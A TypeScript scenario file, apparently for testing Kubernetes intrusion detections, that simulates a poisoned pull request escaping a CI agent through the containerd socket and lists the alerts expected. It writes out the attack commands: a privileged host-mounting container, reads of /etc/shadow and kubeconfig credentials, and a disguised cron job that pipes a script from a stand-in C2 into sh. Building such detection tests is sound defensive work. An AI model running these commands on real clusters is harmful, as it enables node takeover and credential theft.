import { BUILDPOOL_NODE, buildAgentWorkload } from '../cluster/inventory';
import type { Random } from '../../src/shared/random';
import { externalIp } from '../scenario/indicators';
import type { Storyline, StorylineDefinition } from '../scenario/storyline';

const AGENT = { namespace: 'ci', workload: 'build-agent' };

/** Names of cron files that pass for a package's own at a glance. */
const CRON_FILE_NAMES: readonly string[] = [
  'kube-sync',
  'azure-node-update',
  'node-logrotate',
  'containerd-gc',
  'aks-telemetry',
];
/** Names of the downloaded script. */
const SCRIPT_NAMES: readonly string[] = ['k.sh', 'update.sh', 'init.sh', 'x', 'ds.sh'];
/** Small public images with a shell (ctr wants the full reference). */
const ROGUE_IMAGES: readonly string[] = [
  'docker.io/library/alpine:3.19',
  'docker.io/library/alpine:3.20',
  'docker.io/library/busybox:1.36',
  'docker.io/library/ubuntu:22.04',
];
const CTR = 'ctr --address /run/containerd/containerd.sock --namespace k8s.io';

/**
 * B2: a poisoned pull request runs on the self-hosted agent, which has the node's containerd socket mounted.
 * AKS nodes run containerd (no Docker daemon since Kubernetes 1.24), so the attacker drives it with `ctr`, and
 * puts the container in kubelet's `k8s.io` namespace with a 64-hex id, like every container kubelet starts.
 */
export const dockerSocketEscape: StorylineDefinition = {
  id: 'docker-sock-escape',
  title: 'Container runtime socket escape from a CI agent',
  summary:
    "A pull request's build script uses the containerd socket mounted into the CI agent to start a privileged container behind Kubernetes' back and take over the node.",
  build: buildDockerSocketEscape,
};

function buildDockerSocketEscape(random: Random): Storyline {
  const rogueName = random.hex(64);
  const c2 = externalIp(random);
  const cronFile = `/etc/cron.d/${random.pick(CRON_FILE_NAMES)}`;
  const script = random.pick(SCRIPT_NAMES);
  const rogueImage = random.pick(ROGUE_IMAGES);
  const job = `PR-${random.int(200, 990)}`;
  // The build pool is scaled by hand; which instance runs the agent changes from one case to the next.
  const buildNode = { ...BUILDPOOL_NODE, name: BUILDPOOL_NODE.name.replace(/\d$/, String(random.int(0, 4))) };
  const node = buildNode.name;
  const pullRogue = `${CTR} images pull ${rogueImage}`;
  const runRogue = `${CTR} run -d --privileged --net-host --with-ns pid:/proc/1/ns/pid --mount type=bind,src=/,dst=/host,options=rbind:rw ${rogueImage} ${rogueName} sleep infinity`;
  const inRogue = (command: string) => `${CTR} task exec --exec-id ${random.hex(8)} ${rogueName} ${command}`;
  const fetch = `curl -fsSL http://${c2}/${script} | sh`;
  return {
    id: dockerSocketEscape.id,
    title: dockerSocketEscape.title,
    summary: dockerSocketEscape.summary,
    indicators: { rogueContainer: rogueName, c2, cronFile, job, node },
    attackHourUtc: 13,
    setup: { extraNodes: [buildNode], extraWorkloads: [buildAgentWorkload('buildpool')] },
    actors: {},
    steps: [
      {
        at: 0,
        description: `Pipeline job ${job} (pull-request validation) starts its script on the agent`,
        actions: [
          { type: 'log', pod: AGENT, message: `{time}: Running job: ${job} validate` },
          {
            type: 'process',
            pod: AGENT,
            exe: '/usr/bin/bash',
            cmdline: '/usr/bin/bash --noprofile --norc /azp/_work/_temp/7c1e0d2a.sh',
            parentExe: '/azp/bin/Agent.Worker',
            user: 'root',
          },
        ],
      },
      {
        at: 5,
        description: "Talks to the node's containerd socket",
        actions: [
          {
            type: 'process',
            pod: AGENT,
            exe: '/usr/local/bin/ctr',
            cmdline: `${CTR} containers list`,
            parentExe: '/usr/bin/bash',
            user: 'root',
          },
        ],
      },
      {
        at: 20,
        description:
          'Starts a privileged container with the host filesystem, named like a kubelet-managed container',
        actions: [
          { type: 'log', pod: AGENT, message: `+ ${pullRogue}` },
          {
            type: 'log',
            pod: AGENT,
            message: `${rogueImage}: resolved       |++++++++++++++++++++++++++++++++++++++|`,
          },
          {
            type: 'process',
            pod: AGENT,
            exe: '/usr/local/bin/ctr',
            cmdline: pullRogue,
            parentExe: '/usr/bin/bash',
            user: 'root',
          },
          { type: 'log', pod: AGENT, message: `+ ${runRogue}` },
          {
            type: 'process',
            pod: AGENT,
            exe: '/usr/local/bin/ctr',
            cmdline: runRogue,
            parentExe: '/usr/bin/bash',
            user: 'root',
          },
        ],
      },
      {
        at: 50,
        description: "Reads the node's secrets from inside the rogue container",
        actions: [
          {
            type: 'process',
            pod: AGENT,
            exe: '/usr/local/bin/ctr',
            cmdline: inRogue(
              "chroot /host /bin/bash -c 'id; head -3 /etc/shadow; cat /var/lib/kubelet/kubeconfig; cat /etc/kubernetes/azure.json'",
            ),
            parentExe: '/usr/bin/bash',
            user: 'root',
          },
          {
            type: 'process',
            node,
            exe: '/usr/sbin/chroot',
            cmdline:
              "chroot /host /bin/bash -c 'id; head -3 /etc/shadow; cat /var/lib/kubelet/kubeconfig; cat /etc/kubernetes/azure.json'",
            parentExe: '/usr/bin/containerd-shim-runc-v2',
            user: 'root',
            inHostNamespaces: true,
            files: [
              { path: '/host/etc/shadow', operation: 'read' },
              { path: '/host/var/lib/kubelet/kubeconfig', operation: 'read' },
              { path: '/host/etc/kubernetes/azure.json', operation: 'read' },
            ],
          },
        ],
      },
      {
        at: 90,
        description: 'Drops a cron job on the node that fetches and runs a script every five minutes',
        actions: [
          {
            type: 'process',
            node,
            exe: '/usr/sbin/chroot',
            cmdline: `chroot /host bash -c 'echo "*/5 * * * * root ${fetch}" > ${cronFile}'`,
            parentExe: '/usr/bin/containerd-shim-runc-v2',
            user: 'root',
            inHostNamespaces: true,
            files: [{ path: `/host${cronFile}`, operation: 'write' }],
          },
        ],
      },
      {
        at: 105,
        description: 'The job ends green',
        actions: [{ type: 'log', pod: AGENT, message: '{time}: ##[section]Finishing: validate' }],
      },
      {
        at: 5 * 3600,
        description: "The node's cron runs the attacker's script",
        actions: [
          {
            type: 'process',
            node,
            exe: '/bin/sh',
            cmdline: `/bin/sh -c ${fetch}`,
            parentExe: '/usr/sbin/cron',
            user: 'root',
            connections: [{ ip: c2, port: 80 }],
          },
        ],
      },
    ],
    expectedAlerts: [
      { alertType: 'K8S.NODE_PrivilegedContainerArtifacts', step: 2 },
      { alertType: 'K8S.NODE_PrivilegedExecutionInContainer', step: 3 },
      { alertType: 'K8S.NODE_SuspectPasswordFileAccess', step: 3 },
      { alertType: 'K8S.NODE_KubeConfigAccess', step: 3 },
      { alertType: 'K8S.NODE_DownloadAndRunCombo', step: 6 },
    ],
  };
}
